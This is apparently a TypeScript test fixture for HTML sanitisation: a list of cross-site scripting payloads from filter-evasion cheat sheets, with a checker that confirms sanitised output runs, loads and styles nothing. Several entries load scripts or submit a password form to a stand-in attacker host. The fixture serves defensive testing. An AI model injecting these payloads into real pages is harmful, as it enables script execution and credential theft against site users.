/**
 * Test fixture: HTML that tries to run script, load foreign content or cover
 * the page, in the shapes filter-evasion cheat sheets list. Used by the api and
 * BFF sanitisation tests; each must come back harmless (`harmlessHtml`).
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1);">',
  '<img src="x" oNeRrOr="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href="&#x6A;avascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="https://ok.example" onclick="alert(1)">click</a>',
  '<a href="//evil.example">protocol relative</a>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">fake login</p>',
  '<div style="background-image:url(javascript:alert(1))">x</div>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<style>body{display:none}</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select onfocus=alert(1) autofocus>',
  '<textarea onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p onmouseover="alert(1)">hover</p>',
  '<h2 onclick=alert(1)>title</h2>',
  '<strong id="x" class="y" data-x="z" onpointerenter=alert(1)>bold</strong>',
  '<blockquote cite="javascript:alert(1)">quote</blockquote>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<xmp><script>alert(1)</script></xmp>',
  '<a href="https://ok.example" target="_self" rel="opener">ok</a>',
  '<img src="https://tracker.example/pixel.gif">',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<div onclick="alert(1)" style="z-index:9999;position:absolute">cover</div>',
];

/**
 * True when the HTML can run nothing, load nothing and style nothing: no
 * script-capable or embedding element, no event handler, no style, no
 * non-http(s)/mailto link, and every link opens with noopener.
 */
export function harmlessHtml(html: string): boolean {
  const lower = html.toLowerCase();
  if (
    /<\s*(script|style|iframe|object|embed|img|svg|math|link|meta|base|form|input|button|textarea|select|video|audio|source|body|template|noscript|xmp|marquee|details|table|isindex)\b/.test(
      lower,
    )
  )
    return false;
  if (/\son[a-z]+\s*=/.test(lower)) return false;
  if (/\sstyle\s*=/.test(lower)) return false;
  if (/\s(src|srcdoc|action|background|cite|xlink:href|data)\s*=/.test(lower)) return false;
  for (const m of html.matchAll(/<a\b[^>]*>/gi)) {
    const tag = m[0];
    const href = /href="([^"]*)"/i.exec(tag)?.[1];
    if (href !== undefined && !/^(https?:\/\/|mailto:)/i.test(href)) return false;
    if (href !== undefined && !/rel="noopener noreferrer nofollow"/.test(tag)) return false;
  }
  return true;
}
